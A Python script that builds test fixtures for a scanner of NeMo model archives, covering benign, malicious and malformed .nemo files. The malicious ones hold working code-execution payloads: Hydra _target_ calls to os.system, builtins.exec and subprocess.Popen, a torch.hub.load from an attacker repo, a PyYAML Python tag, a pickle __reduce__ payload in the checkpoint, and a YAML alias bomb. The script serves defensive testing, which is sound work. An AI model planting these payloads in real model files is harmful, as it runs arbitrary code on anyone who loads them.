#!/usr/bin/python3
"""NeMo fixtures: .nemo tar archives laid out as NeMo's SaveRestoreConnector
writes them (./model_config.yaml, ./model_weights.ckpt saved with
torch.save, tokenizer files), with Hydra `_target_` payloads
(CVE-2025-23304: any importable callable, called with the sibling keys),
NeMo's top-level `target`, PyYAML Python tags, and a pickle payload in the
embedded checkpoint (found by pickle-code, which reads the members).

usage: gen_nemo.py OUT"""
import io
import sys
import tarfile

import torch

from fixture_util import Manifest

torch.set_num_threads(1)

CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 2.0.0
tokenizer:
  dir: tokenizer
  type: bpe
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 2
  d_model: 64
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 64
  num_classes: 128
  vocabulary: &vocab [a, b, c]
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
optim:
  name: adamw
  lr: 0.001
  sched:
    name: CosineAnnealing
    warmup_steps: 100
loss:
  _target_: torch.nn.CTCLoss
  blank: 128
labels: *vocab
"""


def state_dict_bytes():
    b = io.BytesIO()
    torch.save({"encoder.weight": torch.zeros(4, 4), "decoder.bias": torch.zeros(4)}, b)
    return b.getvalue()


class Payload:
    def __reduce__(self):
        import os
        return (os.system, ("id",))


def evil_ckpt():
    b = io.BytesIO()
    torch.save({"encoder.weight": torch.zeros(2), "hook": Payload()}, b)
    return b.getvalue()


def nemo(members, gz=False):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz" if gz else "w") as t:
        for name, data in members:
            info = tarfile.TarInfo("./" + name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return b.getvalue()


def package(config, ckpt=None, gz=False):
    return nemo([("model_config.yaml", config.encode()),
                 ("model_weights.ckpt", ckpt if ckpt is not None else state_dict_bytes()),
                 ("tokenizer/vocab.txt", b"a\nb\nc\n")], gz)


def main():
    m = Manifest(sys.argv[1], "nemo")
    # Benign.
    m.add("benign", "asr.nemo", package(CONFIG), why="ASR config, state dict checkpoint")
    m.add("benign", "asr-gz.nemo", package(CONFIG, gz=True), why="gzip-compressed .nemo")

    # Malicious.
    evil = CONFIG.replace("  _target_: torch.nn.CTCLoss\n",
                          "  _target_: os.system\n  command: id\n")
    m.add("malicious", "os-system.nemo", package(evil), ["denied-target"],
          "_target_ os.system (CVE-2025-23304)")
    evil = CONFIG + "callback:\n  _target_: builtins.exec\n  _args_: [\"import os; os.system('id')\"]\n"
    m.add("malicious", "builtins-exec.nemo", package(evil), ["denied-target"], "builtins.exec")
    evil = CONFIG.replace("target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE",
                          "target: evil_pkg.models.Backdoor")
    m.add("malicious", "top-target.nemo", package(evil), ["foreign-target"],
          "top-level target outside NeMo")
    evil = CONFIG.replace("    warmup_steps: 100\n",
                          "    warmup_steps: 100\n    deep:\n      - x:\n          _target_: "
                          "subprocess.Popen\n          args: [sh, -c, id]\n")
    m.add("malicious", "nested-popen.nemo", package(evil), ["denied-target"],
          "subprocess.Popen nested in a list")
    evil = CONFIG.replace("  _target_: torch.nn.CTCLoss\n", "  _target_: torch.hub.load\n"
                          "  repo_or_dir: attacker/repo\n  model: x\n")
    m.add("malicious", "torch-hub.nemo", package(evil), ["denied-target"],
          "torch.hub.load inside the torch namespace")
    evil = CONFIG + "extra: !!python/object/apply:os.system [id]\n"
    m.add("malicious", "python-tag.nemo", package(evil), ["python-tag"], "PyYAML Python tag")
    m.add("malicious", "ckpt-payload.nemo", package(CONFIG, evil_ckpt()),
          ["pickle-code.pickle.denied-import"], "os.system pickled in model_weights.ckpt",
          also="pickle-code")

    # Malformed.
    m.add("malformed", "not-a-tar.nemo", b"\x00garbage" * 40, ["archive"], "not a tar")
    m.add("malformed", "no-config.nemo", nemo([("model_weights.ckpt", state_dict_bytes())]),
          ["archive"], "no model_config.yaml")
    m.add("malformed", "bad-yaml.nemo", package("a: [1, 2\nb: {c\n"), ["yaml"], "YAML syntax error")
    m.add("malformed", "target-mapping.nemo",
          package(CONFIG + "x:\n  _target_: {a: os.system}\n"), ["target-value"],
          "_target_ holding a mapping")
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        "%s: &%s [%s]\n" % (c, c, ", ".join(["*" + p] * 9))
        for p, c in zip("abcdefghijklmnopqrstuvwxy", "bcdefghijklmnopqrstuvwxyz"))
    m.add("malformed", "alias-bomb.nemo", package(bomb), ["yaml-aliases"],
          "billion laughs")
    m.write()


if __name__ == "__main__":
    main()
